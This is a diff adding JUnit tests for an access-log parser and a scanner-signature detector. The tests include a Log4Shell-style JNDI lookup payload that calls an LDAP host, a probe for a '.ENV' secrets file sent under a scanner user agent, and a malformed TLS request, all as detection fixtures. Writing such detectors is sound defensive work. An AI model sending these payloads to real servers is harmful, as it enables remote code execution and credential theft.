@@ -0,0 +1,66 @@
+package com.github.oogasawa.utility.security.access;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.charset.StandardCharsets;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Unit tests for {@link AccessLogParser} and {@link ScannerSignature}.
+ */
+class AccessLogParserTest {
+
+    private final AccessLogParser parser = new AccessLogParser();
+
+    private AccessRequest parse(String line) {
+        byte[] b = line.getBytes(StandardCharsets.ISO_8859_1);
+        return parser.parse(b, 0, b.length);
+    }
+
+    /**
+     * Tests the combined, common and vhost_combined formats.
+     */
+    @Test
+    void testFormats() {
+        assertEquals(new AccessRequest("203.0.113.7", "GET", "/index.html?q=1", 200, 5120, "Mozilla/5.0 (X11; Linux x86_64)"),
+                parse("203.0.113.7 - - [22/Jun/2025:06:25:01 +0900] \"GET /index.html?q=1 HTTP/1.1\" 200 5120 "
+                        + "\"https://example.com/\" \"Mozilla/5.0 (X11; Linux x86_64)\""));
+        assertEquals(new AccessRequest("2001:db8::1", "POST", "/login", 302, 0, ""),
+                parse("2001:db8::1 - alice [22/Jun/2025:06:25:01 +0900] \"POST /login HTTP/1.1\" 302 -"));
+        assertEquals(new AccessRequest("198.51.100.2", "GET", "/", 304, 0, ""),
+                parse("www.example.com:443 198.51.100.2 - - [22/Jun/2025:06:25:01 +0900] \"GET / HTTP/2.0\" 304 - \"-\" \"-\"\r"));
+        // an escaped quote in the user agent
+        assertEquals("a \\\"quoted\\\" agent", parse(
+                "10.0.0.1 - - [22/Jun/2025:06:25:01 +0900] \"GET / HTTP/1.1\" 200 1 \"-\" \"a \\\"quoted\\\" agent\"").userAgent());
+        assertNull(parse("[Sun Jun 22 06:25:01 2025] [error] [client 10.0.0.1] File does not exist"));
+        assertNull(parse("garbage"));
+    }
+
+    /**
+     * Tests malformed request lines and the scanner signatures.
+     */
+    @Test
+    void testScanners() {
+        AccessRequest tls = parse("192.0.2.9 - - [22/Jun/2025:06:25:01 +0900] \"\\x16\\x03\\x01\\x02\" 400 226 \"-\" \"-\"");
+        assertTrue(tls.isMalformed());
+        assertEquals("\\x16\\x03\\x01\\x02", tls.target());
+        assertEquals(1 << ScannerSignature.MALFORMED_REQUEST.ordinal(), ScannerSignature.match(tls));
+
+        AccessRequest env = parse("192.0.2.9 - - [22/Jun/2025:06:25:01 +0900] \"GET /.ENV HTTP/1.1\" 404 196 \"-\" "
+                + "\"Mozilla/5.0 zgrab/0.x\"");
+        assertEquals("/.ENV", env.path());
+        assertEquals(1 << ScannerSignature.SENSITIVE_FILE.ordinal() | 1 << ScannerSignature.SCANNER_AGENT.ordinal(),
+                ScannerSignature.match(env));
+
+        AccessRequest jndi = parse("192.0.2.9 - - [22/Jun/2025:06:25:01 +0900] \"GET / HTTP/1.1\" 200 1 \"-\" "
+                + "\"${jndi:ldap://192.0.2.9/a}\"");
+        assertEquals(1 << ScannerSignature.JNDI.ordinal(), ScannerSignature.match(jndi));
+
+        AccessRequest normal = parse("192.0.2.10 - - [22/Jun/2025:06:25:01 +0900] \"GET /docs/index.html HTTP/1.1\" 200 1 "
+                + "\"-\" \"Mozilla/5.0\"");
+        assertEquals(0, ScannerSignature.match(normal));
+    }
+
+}